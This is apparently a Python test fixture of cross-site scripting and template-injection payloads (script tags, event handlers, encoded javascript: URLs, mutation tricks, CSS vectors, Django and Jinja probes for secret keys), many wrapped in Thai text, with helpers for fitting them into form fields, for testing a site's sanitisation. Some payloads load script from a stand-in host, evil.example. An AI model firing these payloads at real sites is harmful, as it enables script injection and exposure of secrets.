"""Hostile input: markup, URLs and template syntax an attacker (or a careless paste) sends.

Payloads that run set ``window.__xss`` (or call alert) so a real browser can tell
whether any of them executed. Many carry Thai text around them, as real input would.
"""

SENTINEL = "__xss"

XSS_PAYLOADS: dict[str, str] = {
    # Script elements
    "script": "<script>window.__xss=1</script>",
    "script-upper-src": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script-alert-thai": "ข่าวดี<script>alert('สวัสดี')</script>ของชุมชน",
    "script-type-attr": '<script type="text/javascript">window.__xss=1</script>',
    "script-in-template": "<template><script>window.__xss=1</script></template>",
    # Event handlers
    "img-onerror": '<img src=x onerror="window.__xss=1">',
    "img-onerror-unquoted-unclosed": "<img src=x onerror=window.__xss=1//",
    "img-slashes": "<img/src=x/onerror=window.__xss=1>",
    "img-backticks": "<img src=`x` onerror=window.__xss=1>",
    "img-eval-src": "<img src=x:window.__xss=1 onerror=eval(src)>",
    "svg-onload": "<svg onload=window.__xss=1>",
    "svg-slash-onload": "<svg/onload=window.__xss=1>",
    "body-onload": "<body onload=window.__xss=1>",
    "input-autofocus": "<input onfocus=window.__xss=1 autofocus>",
    "select-autofocus": "<select autofocus onfocus=window.__xss=1>",
    "details-ontoggle": "<details open ontoggle=window.__xss=1>รายละเอียด</details>",
    "video-source-onerror": '<video><source onerror="window.__xss=1"></video>',
    "audio-onerror": "<audio src=x onerror=window.__xss=1>",
    "marquee-onstart": "<marquee onstart=window.__xss=1>ข่าววิ่ง</marquee>",
    "div-onmouseover": '<div onmouseover="window.__xss=1">ชี้ที่นี่</div>',
    "a-onclick": '<a href="#" onclick="window.__xss=1">คลิก</a>',
    "custom-onfocusin": "<xss id=x tabindex=1 autofocus onfocusin=window.__xss=1></xss>",
    "svg-animate-onbegin": "<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>",
    # Script URLs in href/src/action/formaction/xlink:href
    "a-javascript": '<a href="javascript:window.__xss=1">ลิงก์</a>',
    "a-javascript-mixed-case": '<a href="JaVaScRiPt:window.__xss=1">ลิงก์</a>',
    "a-javascript-leading-space": '<a href="  javascript:window.__xss=1">ลิงก์</a>',
    "a-javascript-hex-entity": '<a href="&#x6A;avascript:window.__xss=1">ลิงก์</a>',
    "a-javascript-tab-entity": '<a href="jav&#x09;ascript:window.__xss=1">ลิงก์</a>',
    "a-javascript-literal-tab": '<a href="jav\tascript:window.__xss=1">ลิงก์</a>',
    "a-javascript-control-char": '<a href="\x01javascript:window.__xss=1">ลิงก์</a>',
    "a-javascript-decimal-entities": (
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__xss=1">ลิงก์</a>'
    ),
    "a-javascript-padded-entity": '<a href="java&#0000115;cript:window.__xss=1">ลิงก์</a>',
    "a-javascript-colon-entity": '<a href="javascript&colon;window.__xss=1">ลิงก์</a>',
    "a-data-html-base64": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">ไฟล์</a>',
    "a-data-html": '<a href="data:text/html,<script>window.__xss=1</script>">ข้อมูล</a>',
    "a-vbscript": '<a href="vbscript:msgbox(1)">ลิงก์</a>',
    "svg-xlink-href": (
        '<svg><a xlink:href="javascript:window.__xss=1"><text x="20" y="20">คลิก</text></a></svg>'
    ),
    "math-xlink-href": '<math><maction actiontype="statusline" xlink:href="javascript:window.__xss=1">x</maction></math>',
    "form-action": '<form action="javascript:window.__xss=1"><button>ส่ง</button></form>',
    "button-formaction": '<form><button formaction="javascript:window.__xss=1">ส่ง</button></form>',
    "link-stylesheet-javascript": '<link rel="stylesheet" href="javascript:window.__xss=1">',
    "img-data-svg": '<img src="data:image/svg+xml,<svg onload=window.__xss=1>">',
    # Frames, plugins, base and refresh
    "iframe-javascript": '<iframe src="javascript:window.__xss=1"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    "object-data": '<object data="data:text/html,<script>window.__xss=1</script>"></object>',
    "object-scriptlet": '<object type="text/x-scriptlet" data="https://evil.example/x.sct"></object>',
    "embed-javascript": '<embed src="javascript:window.__xss=1">',
    "base-href": '<base href="javascript:/">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">',
    # Malformed, nested and breaking-out markup
    "split-script-tag": "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
    "double-open-bracket": "<<script>script>window.__xss=1<</script>/script>",
    "close-textarea": "</textarea><script>window.__xss=1</script>",
    "close-title": "</title><script>window.__xss=1</script>",
    "close-style": "</style><script>window.__xss=1</script>",
    "attribute-breakout-img": '"><img src=x onerror=window.__xss=1>',
    "attribute-breakout-single": "'><svg onload=window.__xss=1>",
    "attribute-injection-double": '" autofocus onfocus="window.__xss=1" x="',
    "attribute-injection-single": "' autofocus onfocus='window.__xss=1' x='",
    "unclosed-attribute": '<img src="x onerror=window.__xss=1',
    "comment-breakout": '<!--<img src="--><img src=x onerror=window.__xss=1//">',
    "noscript-mutation": '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
    "svg-style-mutation": "<svg><style><img src=x onerror=window.__xss=1></style></svg>",
    "math-mglyph-mutation": "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>",
    # CSS
    "style-url-javascript": '<div style="background:url(javascript:window.__xss=1)">พื้นหลัง</div>',
    "style-expression": '<div style="width:expression(window.__xss=1)">กว้าง</div>',
    "style-block-url": '<style>body{background:url("javascript:window.__xss=1")}</style>',
    "style-block-import": "<style>@import 'javascript:window.__xss=1';</style>",
    "style-moz-binding": '<div style="-moz-binding:url(https://evil.example/x.xml#x)">ผูก</div>',
    # Encoded variants that must stay text
    "url-encoded-script": "%3Cscript%3Ewindow.__xss%3D1%3C%2Fscript%3E",
    "entity-encoded-script": "&lt;script&gt;window.__xss=1&lt;/script&gt;",
    "double-entity-script": "&amp;lt;script&amp;gt;window.__xss=1&amp;lt;/script&amp;gt;",
    "js-unicode-escape-text": "\\u003cscript\\u003ewindow.__xss=1\\u003c/script\\u003e",
    "fullwidth-brackets": "＜script＞window.__xss=1＜/script＞",
    "bare-javascript-url": "javascript:window.__xss=1",
    # Template injection
    "django-variable": "{{7*7}}",
    "django-debug-tag": "{% debug %}",
    "django-settings": "{{ settings.SECRET_KEY }}{% load static %}",
    "jinja-config": "{{ config.items() }}{{ ''.__class__.__mro__ }}",
    "other-template-syntaxes": "${7*7} #{7*7} <%= 7*7 %>",
    # Control characters around markup (Word pastes vertical tabs)
    "vertical-tab-in-text": "กลุ่มอาชีพ\x0bบ้านดอนแก้ว<script>window.__xss=1</script>",
}

# What the browser check loads: one of each kind that would run if it survived.
BROWSER_SAMPLE = [
    "script",
    "img-onerror",
    "svg-onload",
    "input-autofocus",
    "a-javascript-hex-entity",
    "close-textarea",
    "attribute-breakout-img",
    "split-script-tag",
]


def chunks(payloads: list[str], limit: int, separator: str = " ฯ ") -> list[str]:
    """The payloads joined into as few strings as fit in ``limit`` characters each."""
    groups: list[str] = []
    current = ""
    for payload in payloads:
        assert len(payload) <= limit, f"payload longer than the field allows: {payload!r}"
        candidate = f"{current}{separator}{payload}" if current else payload
        if len(candidate) > limit:
            groups.append(current)
            current = payload
        else:
            current = candidate
    if current:
        groups.append(current)
    return groups


def all_payloads() -> list[str]:
    return list(XSS_PAYLOADS.values())


def fitting(limit: int) -> list[str]:
    """The payloads short enough for a field of ``limit`` characters."""
    return [payload for payload in XSS_PAYLOADS.values() if len(payload) <= limit]
